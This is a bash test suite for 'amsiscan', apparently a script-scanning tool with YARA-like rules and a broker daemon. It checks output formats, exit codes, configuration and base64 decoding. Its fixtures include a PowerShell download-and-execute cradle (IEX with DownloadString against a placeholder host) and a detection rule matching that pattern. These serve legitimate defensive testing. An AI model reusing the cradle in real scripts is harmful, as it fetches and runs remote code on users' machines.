#!/usr/bin/env bash
# test_amsiscan.sh - amsiscan as a user runs it: text and JSON output, exit codes, rule checking,
# configuration and overrides, directories and standard input.
# Usage: test_amsiscan.sh AMSISCAN SOURCE_DIR AMSID
set -u
scan=$1
src=$2
amsid=${3:-}
tmp=$(mktemp -d /tmp/amsiscan-test.XXXXXX)
broker_pid=
trap '[ -n "$broker_pid" ] && kill "$broker_pid" 2>/dev/null; rm -rf "$tmp"' EXIT
failures=0
passed=0

check() { # check NAME EXPECTED ACTUAL
    if [ "$2" == "$3" ]; then
        passed=$((passed + 1))
    else
        failures=$((failures + 1))
        printf 'FAIL %s\n  expected: %s\n  actual:   %s\n' "$1" "$2" "$3"
    fi
}

contains() { # contains NAME NEEDLE HAYSTACK
    case "$3" in
    *"$2"*) passed=$((passed + 1)) ;;
    *)
        failures=$((failures + 1))
        printf 'FAIL %s\n  missing: %s\n  in:      %s\n' "$1" "$2" "$3"
        ;;
    esac
}

cat >"$tmp/t.yar" <<'YAR'
rule Test_Cradle {
    meta:
        description = "download cradle"
    strings:
        $a = "DownloadString('http"
    condition:
        $a
}
rule Test_Marker { strings: $m = "MARKER-0123456789" condition: $m }
YAR
printf 'Write-Host "hello"\n' >"$tmp/clean.ps1"
printf "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n" >"$tmp/bad.ps1"
payload=$(printf 'xx MARKER-0123456789 and then some more text xx' | base64 -w0)
printf 'powershell -e %s\n' "$payload" >"$tmp/enc.ps1"
mkdir -p "$tmp/dir/sub"
cp "$tmp/clean.ps1" "$tmp/dir/a.ps1"
cp "$tmp/bad.ps1" "$tmp/dir/sub/b.ps1"

# Text output and exit codes.
out=$("$scan" --local --rules "$tmp/t.yar" "$tmp/clean.ps1")
check "clean exit" 0 $?
check "clean line" "$tmp/clean.ps1: OK" "$out"

out=$("$scan" --local --rules "$tmp/t.yar" "$tmp/bad.ps1" "$tmp/clean.ps1")
check "detected exit" 1 $?
check "detected lines" "$tmp/bad.ps1: Test_Cradle FOUND
$tmp/clean.ps1: OK" "$out"

out=$("$scan" --local --rules "$tmp/t.yar" "$tmp/enc.ps1")
check "nested exit" 1 $?
check "nested object path" "$tmp/enc.ps1: Test_Marker FOUND [enc.ps1>base64@14]" "$out"

out=$("$scan" --local --rules "$tmp/t.yar" --set engine.decode_base64=0 "$tmp/enc.ps1")
check "--set turns decoding off" "0:$tmp/enc.ps1: OK" "$?:$out"

out=$("$scan" --local --rules "$tmp/t.yar" "$tmp/missing.ps1")
check "error exit" 2 $?
contains "error line" "$tmp/missing.ps1: ERROR (" "$out"

out=$("$scan" --local --rules "$tmp/t.yar" "$tmp/missing.ps1" "$tmp/bad.ps1")
check "detected wins over error in the exit code" 1 $?

out=$("$scan" --local --rules "$tmp/t.yar" "$tmp/dir")
check "directory without -r" "2:$tmp/dir: ERROR (is a directory (use -r))" "$?:$out"

out=$("$scan" --local --rules "$tmp/t.yar" -r "$tmp/dir")
check "recursive" "1:$tmp/dir/a.ps1: OK
$tmp/dir/sub/b.ps1: Test_Cradle FOUND" "$?:$out"

out=$(printf "x.DownloadString('http://y')" | "$scan" --local --rules "$tmp/t.yar" -)
check "stdin" "1:stdin: Test_Cradle FOUND" "$?:$out"

# JSON: exactly the documented keys first, one object per input.
out=$("$scan" --local --json --rules "$tmp/t.yar" "$tmp/enc.ps1" "$tmp/clean.ps1" "$tmp/missing.ps1")
check "json exit" 1 $?
line1=$(printf '%s\n' "$out" | sed -n 1p)
line2=$(printf '%s\n' "$out" | sed -n 2p)
line3=$(printf '%s\n' "$out" | sed -n 3p)
contains "json detected" "{\"path\": \"$tmp/enc.ps1\", \"verdict\": \"detected\", \"amsi_result\": 32768, \"rules\": [\"Test_Marker\"], \"object\": \"enc.ps1>base64@14\", \"reason\": null" "$line1"
contains "json clean" "{\"path\": \"$tmp/clean.ps1\", \"verdict\": \"clean\", \"amsi_result\": 1, \"rules\": [], \"object\": null, \"reason\": null" "$line2"
contains "json error" "\"verdict\": \"error\", \"amsi_result\": 1, \"rules\": [], \"object\": null, \"reason\": \"No such file or directory\"" "$line3"
if command -v python3 >/dev/null; then
    printf '%s\n' "$out" | python3 -c 'import json,sys
for l in sys.stdin: json.loads(l)' && passed=$((passed + 1)) || {
        failures=$((failures + 1))
        echo "FAIL json does not parse"
    }
fi
out=$("$scan" --local --json --rules "$tmp/t.yar" "$tmp/bad.ps1")
contains "json meta" '"meta": {"description": "download cradle"}' "$out"

# Rule checking.
out=$("$scan" --local --check-rules "$tmp/t.yar")
check "check-rules ok" "0:2 rules OK" "$?:$out"
printf 'rule ok { condition: true }\nrule bad {\n strings: $a = "x" xor\n condition: $a }\n' >"$tmp/bad.yar"
out=$("$scan" --local --check-rules "$tmp/bad.yar" 2>&1)
check "check-rules bad exit" 2 $?
check "check-rules bad message" "$tmp/bad.yar:3: string modifier 'xor' is not supported" "$out"
out=$("$scan" --local --rules "$tmp/bad.yar" "$tmp/clean.ps1" 2>&1)
check "bad rules stop a scan" 2 $?
contains "bad rules message" "bad.yar:3:" "$out"

# Configuration file and overrides.
printf '[engine]\nrules = %s\ndecode_base64 = no\n' "$tmp/t.yar" >"$tmp/amsid.conf"
out=$("$scan" --local --config "$tmp/amsid.conf" "$tmp/enc.ps1" "$tmp/bad.ps1")
check "config file" "1:$tmp/enc.ps1: OK
$tmp/bad.ps1: Test_Cradle FOUND" "$?:$out"
out=$("$scan" --local --config "$tmp/amsid.conf" --set engine.decode_base64=1 "$tmp/enc.ps1")
check "--set overrides the file" 1 $?
printf '[engine]\nmax_files = many\n' >"$tmp/broken.conf"
out=$("$scan" --local --config "$tmp/broken.conf" "$tmp/clean.ps1" 2>&1)
check "bad config exit" 2 $?
contains "bad config message" "broken.conf:2: engine.max_files: 'many' is not a non-negative integer" "$out"
out=$("$scan" --local --set engine.nope=1 "$tmp/clean.ps1" 2>&1)
check "bad --set" "2" "$?"
contains "bad --set message" "engine.nope: unknown key" "$out"
out=$("$scan" --local --bogus 2>&1)
check "unknown option" 2 $?
out=$("$scan" --local 2>&1)
check "no operands" 2 $?

# The bundled rules and samples.
out=$("$scan" --local --check-rules "$src/engine/rules/default.yar")
check "bundled rules valid" 0 $?
out=$("$scan" --local -r "$src/engine/samples")
check "bundled samples detect something" 1 $?

# Through the broker: the same answers as in-process.
if [ -n "$amsid" ]; then
    "$amsid" --foreground --socket "$tmp/scan.sock" --set broker.control_socket="$tmp/ctl.sock" \
        --set engine.rules="$tmp/t.yar" 2>"$tmp/amsid.log" &
    broker_pid=$!
    for _ in $(seq 100); do [ -S "$tmp/scan.sock" ] && break; sleep 0.1; done
    for f in clean.ps1 bad.ps1 enc.ps1; do
        want=$("$scan" --local --json --rules "$tmp/t.yar" "$tmp/$f" | sed 's/, "matches".*//')
        got=$("$scan" --socket "$tmp/scan.sock" --json "$tmp/$f" | sed 's/, "matches".*//')
        check "broker and local agree on $f" "$want" "$got"
    done
    out=$(AMSI_BROKER_SOCKET="$tmp/scan.sock" "$scan" "$tmp/enc.ps1" "$tmp/clean.ps1")
    check "broker from the environment" "1:$tmp/enc.ps1: Test_Marker FOUND [enc.ps1>base64@14]
$tmp/clean.ps1: OK" "$?:$out"
    out=$(printf "x.DownloadString('http://y')" | "$scan" --socket "$tmp/scan.sock" -)
    check "broker stdin" "1:stdin: Test_Cradle FOUND" "$?:$out"
    kill -TERM "$broker_pid"
    wait "$broker_pid"
    check "amsid drained and exited 0" 0 $?
    broker_pid=
    out=$("$scan" --socket "$tmp/scan.sock" "$tmp/clean.ps1")
    check "no broker" "2:$tmp/clean.ps1: ERROR (no broker at the socket)" "$?:$out"
fi

echo "$passed passed, $failures failed"
[ "$failures" -eq 0 ]
